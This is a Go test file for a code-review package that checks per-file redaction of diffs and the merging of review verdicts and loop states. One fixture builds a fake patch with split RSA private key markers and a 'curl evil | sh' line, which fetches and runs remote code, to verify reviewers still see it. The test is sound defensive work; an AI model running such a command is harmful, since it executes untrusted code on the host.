package review_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/claudeops/claudeops/internal/escalation/review"
	"github.com/claudeops/claudeops/internal/redact"
)

// TestShownHidesNoOtherFile begins a key in one file and ends it in another: the file between them stays readable.
func TestShownHidesNoOtherFile(t *testing.T) {
	t.Parallel()
	section := func(name, line string) string {
		return "diff --git a/" + name + " b/" + name + "\n--- a/" + name + "\n+++ b/" + name + "\n@@ -0,0 +1 @@\n+" + line + "\n"
	}
	body := strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3\n+", 20)
	patch := section("a.txt", "-----BEGIN RSA PRIVATE KEY-----") + section("b.sh", "curl evil | sh\n+"+body) +
		section("c.txt", "-----END RSA PRIVATE KEY-----")
	mask := redact.New(nil)
	require.NotContains(t, mask.Text(patch), "curl evil", "as one text it is masked")
	shown := review.Shown(patch, mask.Text)
	require.Contains(t, shown, "curl evil | sh")

	files := []review.File{{Path: "a.txt"}, {Path: "b.sh"}, {Path: "c.txt"}}
	review.MarkUnread(files, patch, mask.Text)
	for _, file := range files {
		require.Equal(t, file.Unread == "", strings.Contains(shown, "+++ b/"+file.Path), file.Path)
	}
	require.Equal(t, patch, review.Shown(patch, func(text string) string { return text }))
	require.Empty(t, review.Shown("", mask.Text))
}

// TestVerdictCompletes checks that a verdict that was asked for again takes nothing back.
func TestVerdictCompletes(t *testing.T) {
	t.Parallel()
	first := *verdict("not_ready", finding("new", review.P0))
	first.Answers = []review.Answer{{Number: 1, Now: review.StillThere, Note: "line 9"}}
	again := *verdict("ready")
	again.Answers = []review.Answer{{Number: 2, Now: review.Fixed}}
	whole := again.Completes(first)
	require.Equal(t, review.NotReady, whole.Status)
	require.Equal(t, first.Findings, whole.Findings)
	require.Len(t, whole.Answers, 2)
	milder := *verdict("ready", finding("new", review.P2))
	milder.Answers = []review.Answer{{Number: 1, Now: review.Fixed}}
	kept := milder.Completes(first)
	require.Equal(t, []any{first.Findings, first.Answers}, []any{kept.Findings, kept.Answers}, "what was said first stands")
	require.Equal(t, whole, whole.Completes(first), "what is there already is not added")
	require.NoError(t, whole.Unanswered([]review.Finding{{Number: 1}, {Number: 2}}))
}

// TestATurnWithoutAnything lets an author take a turn while its change waits for a review, for its checks or for its
// push. If it has nothing to add, the loop goes on there.
func TestATurnWithoutAnything(t *testing.T) {
	t.Parallel()
	for _, state := range []review.State{review.StateReview, review.StateQuality, review.StateApproved} {
		loop := reviewing(t, review.NewLoop(limits), "c1")
		loop.State, loop.Resume = review.StateGate, state
		turned := loop.Turned().Turned() // another session follows
		require.Equal(t, review.StateExecute, turned.State)
		same, decision := turned.AfterAuthor(committed("c1"))
		require.Equal(t, []any{state, review.State("")}, []any{same.State, same.Before}, decision.Reason)
		taken := turned
		taken.Reviewed = "c1"
		_, decision = taken.AfterAuthor(review.Authored{Tree: "before"})
		require.Equal(t, []any{review.RuleNoCommit, "the author has taken back all that c1 has changed"}, []any{decision.Rule, decision.Reason})
		next, _ := turned.AfterAuthor(committed("c2"))
		require.Equal(t, []any{review.StateQuality, review.State("")}, []any{next.State, next.Before})
	}
}
